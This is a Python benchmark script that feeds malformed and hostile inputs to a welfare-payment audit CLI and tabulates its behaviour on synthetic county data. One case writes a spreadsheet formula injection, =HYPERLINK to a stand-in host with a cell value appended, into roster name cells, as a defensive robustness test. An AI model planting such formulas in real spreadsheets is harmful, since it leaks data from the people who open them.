"""Hostile inputs (issue 15): the synthetic county mutated the way real exports and hostile
users mutate it, each audited by the CLI in a fresh process; prints one Markdown row per
case (exit status, the measure that shows a wrong or right answer).

Run it against any source tree to compare (before = main before issue 15, after = now):

    PYTHONPATH=/path/to/src .venv/bin/python benchmarks/hostile_inputs.py [--data DIR]

No assertions; the tests (tests/audit/test_io_hostile.py, tests/test_hostile_cli.py) assert.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd

DATA = Path(__file__).resolve().parents[1] / "data" / "synthetic" / "audit"
WINDOW = ["--start", "2024-01", "--end", "2024-06"]
ZW = "\u200b"


def _run(args: list[str], timeout: int = 300) -> tuple[int, str]:
    env = dict(os.environ)
    try:
        # 4 GB of address space: "--end 9999-12" allocating until killed shows as a crash
        proc = subprocess.run(
            [sys.executable, "-c", "import resource,sys;resource.setrlimit("
             "resource.RLIMIT_AS,(4<<30,4<<30));from jiuzhu_sim.cli import main;"
             "sys.exit(main(sys.argv[1:]))", *args],
            capture_output=True, text=True, timeout=timeout, env=env)
    except subprocess.TimeoutExpired:
        return -1, f"timeout after {timeout} s"
    err = [line for line in proc.stderr.strip().splitlines() if line.strip()]
    return proc.returncode, (err[-1] if err else "")


def _summary(out: Path) -> dict | None:
    try:
        return json.loads((out / "summary.json").read_text("utf-8"))
    except (OSError, ValueError):
        return None


def _json_valid(out: Path) -> str:
    path = out / "summary.json"
    if not path.is_file():
        return "no summary.json"
    try:
        json.loads(path.read_text("utf-8"), parse_constant=lambda c: (_ for _ in ()).throw(
            ValueError(c)))
        return "valid JSON"
    except ValueError as exc:
        return f"invalid JSON ({exc})"


def _audit(folder: Path, out: Path, *extra: str) -> tuple[int, str, dict | None]:
    code, err = _run(["audit", str(folder), *WINDOW, "--out", str(out), "--no-linkage",
                      *extra])
    return code, err, _summary(out) if code == 0 else None


def _findings(out: Path) -> pd.DataFrame:
    try:
        return pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    except OSError:
        return pd.DataFrame(columns=["check", "person_id", "amount_at_risk", "name"])


def _copy(base: Path, work: Path, name: str) -> Path:
    folder = work / name
    shutil.copytree(base, folder)
    for extra in ("truth.csv", "truth_linkage.csv", "README.md"):
        (folder / extra).unlink(missing_ok=True)
    return folder


def _read(folder: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)


def _write(folder: Path, name: str, frame: pd.DataFrame) -> None:
    frame.to_csv(folder / f"{name}.csv", index=False, encoding="utf-8-sig")


def _xlsx(path: Path, sheets: dict[str, list[list]]) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    book.save(path)


def _count(summary: dict | None, check: str) -> str:
    if summary is None:
        return "-"
    return str(summary["findings"].get(check, {}).get("findings", 0))


def cases(base: Path, work: Path):
    """(case, measure, value) rows."""
    out = work / "out"
    # 0. baseline
    folder = _copy(base, work, "baseline")
    code, err, s = _audit(folder, out / "baseline")
    base_counts = {k: v["findings"] for k, v in s["findings"].items()} if s else {}
    yield ("unchanged county", "exit; findings; paid_not_on_roster; missing_payment",
           f"{code}; {s and s['findings_total']}; {_count(s, 'paid_not_on_roster')}; "
           f"{_count(s, 'missing_payment')}")

    # 1. open-ended approvals written 9999-12-31
    folder = _copy(base, work, "open_end")
    roster = _read(folder, "roster")
    active = roster["end_date"] == ""
    roster.loc[active, "end_date"] = "9999-12-31"
    _write(folder, "roster", roster)
    code, err, s = _audit(folder, out / "open_end")
    yield (f"end_date 9999-12-31 on {int(active.sum())} active rows",
           "exit; paid_not_on_roster (unchanged county: "
           f"{base_counts.get('paid_not_on_roster')})",
           f"{code}; {_count(s, 'paid_not_on_roster')}")

    # 2. a death date typed 3024-03-01 for a living, paid person
    folder = _copy(base, work, "death_typo")
    pay = _read(folder, "payments")
    deaths = _read(folder, "deaths")
    living = pay.loc[~pay["person_id"].isin(deaths["person_id"]), "person_id"].iloc[0]
    deaths = pd.concat([deaths, pd.DataFrame([{"person_id": living, "name": "某某",
                                               "death_date": "3024-03-01"}])])
    _write(folder, "deaths", deaths)
    code, err, s = _audit(folder, out / "death_typo")
    f = _findings(out / "death_typo")
    yield ("death_date 3024-03-01 for a living person",
           "exit; deceased_paid findings on that person; deaths rows rejected",
           f"{code}; {int(((f['check'] == 'deceased_paid') & (f['person_id'] == living)).sum())}"
           f"; {s and s['rows_rejected'].get('deaths')}")

    # 3./4./5. workbooks: one sheet per quarter; a title row; IDs as Excel numbers
    pay = _read(base, "payments")
    header = list(pay.columns)
    for c in ("amount",):
        pay[c] = pd.to_numeric(pay[c])
    q1 = pay[pay["period"] <= "2024-03"].values.tolist()
    q2 = pay[pay["period"] > "2024-03"].values.tolist()
    folder = _copy(base, work, "two_sheets")
    (folder / "payments.csv").unlink()
    _xlsx(folder / "payments.xlsx", {"2024Q1": [header] + q1, "2024Q2": [header] + q2})
    code, err, s = _audit(folder, out / "two_sheets")
    yield (f"payments.xlsx, sheets 2024Q1 ({len(q1)}) + 2024Q2 ({len(q2)})",
           "exit; payment rows read; missing_payment (unchanged county: "
           f"{base_counts.get('missing_payment')})",
           f"{code}; {s and s['rows_read']['payments']}; {_count(s, 'missing_payment')}")

    folder = _copy(base, work, "title_rows")
    (folder / "payments.csv").unlink()
    _xlsx(folder / "payments.xlsx", {"Sheet1": [["××市2024年低保金发放明细表"], ["单位：元"],
                                                header] + q1 + q2
                                     + [["合计"] + [None] * 5 + [float(pay["amount"].sum())]]})
    code, err, s = _audit(folder, out / "title_rows")
    yield ("payments.xlsx with 2 title rows and a 合计 row",
           "exit (message); payment rows read / rejected",
           f"{code} ({err[:70]}); {s and s['rows_read']['payments']} / "
           f"{s and s['rows_rejected']['payments']}")

    folder = _copy(base, work, "numeric_ids")
    (folder / "payments.csv").unlink()
    rows = [[r[0], float(r[1]) if r[1][:17].isdigit() and r[1][-1].isdigit() else r[1],
             *r[2:]] for r in q1 + q2]
    _xlsx(folder / "payments.xlsx", {"Sheet1": [header] + rows})
    code, err, s = _audit(folder, out / "numeric_ids")
    yield ("payments.xlsx, person_id typed as numbers", "exit (message); findings; at risk",
           f"{code} ({err[:90]}); {s and s['findings_total']}; "
           f"{s and s['amount_at_risk_total']}")

    # 6. stray characters around IDs
    folder = _copy(base, work, "stray")
    pay = _read(folder, "payments")
    marks = ["\u200b", "'", "-"]
    n = len(pay) // 10 // len(marks) * len(marks)
    for i, mark in enumerate(marks):
        sel = pay.index[i::len(marks)][: n // len(marks)]
        pay.loc[sel, "person_id"] = (mark + pay.loc[sel, "person_id"] if mark != "-" else
                                     pay.loc[sel, "person_id"].str[:6] + "-"
                                     + pay.loc[sel, "person_id"].str[6:])
    _write(folder, "payments", pay)
    code, err, s = _audit(folder, out / "stray")
    yield (f"{n} payment IDs with a zero-width space, leading ' or hyphen",
           f"exit; findings (unchanged county: {sum(base_counts.values())}); IDs normalised",
           f"{code}; {s and s['findings_total']}; "
           f"{(s or {}).get('input', {}).get('ids_normalised', 'not reported')}")

    # 7. amounts written 941元 / ¥941
    folder = _copy(base, work, "yuan")
    pay = _read(folder, "payments")
    sel = pay.index[:40]
    pay.loc[sel[::2], "amount"] = pay.loc[sel[::2], "amount"].str.replace(".0", "") + "元"
    pay.loc[sel[1::2], "amount"] = "¥" + pay.loc[sel[1::2], "amount"]
    _write(folder, "payments", pay)
    code, err, s = _audit(folder, out / "yuan")
    yield ("40 amounts written 941元 / ¥941",
           f"exit; payments rejected; missing_payment (unchanged: "
           f"{base_counts.get('missing_payment')})",
           f"{code}; {s and s['rows_rejected']['payments']}; {_count(s, 'missing_payment')}")

    # 7b. amounts that cannot be read at all: their months are unknown, not unpaid
    folder = _copy(base, work, "unreadable")
    pay = _read(folder, "payments")
    pay.loc[pay.index[:40], "amount"] = "见附件"
    _write(folder, "payments", pay)
    code, err, s = _audit(folder, out / "unreadable")
    yield ("40 amounts unreadable (见附件)",
           f"exit; payments rejected; missing_payment (unchanged: "
           f"{base_counts.get('missing_payment')})",
           f"{code}; {s and s['rows_rejected']['payments']}; {_count(s, 'missing_payment')}")

    # 8. reversals: 20 payments reversed and paid again
    folder = _copy(base, work, "reversals")
    pay = _read(folder, "payments")
    picked = pay.iloc[5:25].copy()
    reversal = picked.assign(amount="-" + picked["amount"],
                             payment_id=picked["payment_id"] + "R")
    repaid = picked.assign(payment_id=picked["payment_id"] + "B")
    _write(folder, "payments", pd.concat([pay, reversal, repaid], ignore_index=True))
    code, err, s = _audit(folder, out / "reversals")
    f = _findings(out / "reversals")
    amounts = pd.to_numeric(f["amount_at_risk"], errors="coerce")
    yield ("20 payments reversed (−x) and paid again",
           f"exit; duplicate_payment (unchanged: {base_counts.get('duplicate_payment')}); "
           "negative amounts at risk",
           f"{code}; {_count(s, 'duplicate_payment')}; {int((amounts < 0).sum())}")

    # 9. inf / 1e309
    folder = _copy(base, work, "inf")
    pay = _read(folder, "payments")
    pay.loc[pay.index[3], "amount"] = "inf"
    pay.loc[pay.index[4], "amount"] = "1e309"
    _write(folder, "payments", pay)
    code, err, s = _audit(folder, out / "inf")
    yield ("amounts inf and 1e309", "exit; summary.json; payments rejected",
           f"{code}; {_json_valid(out / 'inf')}; {s and s['rows_rejected']['payments']}")

    # 10. failure paths
    folder = _copy(base, work, "header_only")
    (folder / "payments.csv").write_text(",".join(_read(base, "payments").columns) + "\n",
                                         "utf-8")
    code, err, _ = _audit(folder, out / "header_only")
    yield ("payments.csv header only", "exit (last stderr line)", f"{code} ({err[:80]})")
    folder = _copy(base, work, "header_only_roster")
    (folder / "roster.csv").write_text(",".join(_read(base, "roster").columns) + "\n",
                                       "utf-8")
    code, err, _ = _audit(folder, out / "header_only_roster")
    yield ("roster.csv header only", "exit (last stderr line)", f"{code} ({err[:80]})")
    a_file = work / "a_file.txt"
    a_file.write_text("x")
    code, err, _ = _audit(base, a_file)
    yield ("--out naming a file", "exit (last stderr line)", f"{code} ({err[:80]})")
    code, err, _ = _audit(base, Path("/proc/jiuzhu_out"))
    yield ("--out unwritable (/proc/…)", "exit (last stderr line)", f"{code} ({err[:80]})")
    code, err, _ = _audit(base, out / "bad_date", "--date", "2024-02-30")
    yield ("--date 2024-02-30", "exit (last stderr line)", f"{code} ({err[:80]})")
    code, err = _run(["audit", str(base), "--start", "2024-01", "--end", "9999-12", "--out",
                      str(out / "far"), "--no-linkage"], timeout=120)
    yield ("--end 9999-12", "exit (last stderr line)", f"{code} ({err[:80]})")
    code, err = _run(["audit", str(base), "--start", "2000-01", "--end", "2024-06", "--out",
                      str(out / "long"), "--no-linkage"], timeout=300)
    yield ("--start 2000-01 --end 2024-06 (294 months)", "exit (last stderr line)",
           f"{code} ({err[:80]})")
    pop = work / "pop"
    _run(["synth", "population", "--out", str(pop), "--households", "3"])
    for name in ("households", "persons"):  # keep the header only
        path = pop / f"{name}.csv"
        path.write_text(path.read_text("utf-8-sig").splitlines()[0] + "\n", "utf-8")
    code, err = _run(["simulate", "--persons", str(pop / "persons.csv"), "--households",
                      str(pop / "households.csv"), "--out", str(pop / "out")])
    yield ("simulate with zero households", "exit (last stderr line)", f"{code} ({err[:80]})")

    # 11. a formula in a name cell reaches findings.csv
    folder = _copy(base, work, "formula")
    roster = _read(folder, "roster")
    roster["name"] = '=HYPERLINK("http://x.example/"&A1,"点击")'
    _write(folder, "roster", roster)
    code, err, s = _audit(folder, out / "formula")
    f = _findings(out / "formula")
    yield ("roster names =HYPERLINK(…)", "exit; findings.csv name cells starting with =",
           f"{code}; {int(f['name'].str.startswith('=').sum())}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--data", type=Path, default=DATA)
    args = ap.parse_args()
    with tempfile.TemporaryDirectory(prefix="jiuzhu-hostile-") as tmp:
        print("| input | measure | result |\n|---|---|---|")
        for case, measure, value in cases(args.data, Path(tmp)):
            print(f"| {case} | {measure} | {value} |", flush=True)


if __name__ == "__main__":
    main()
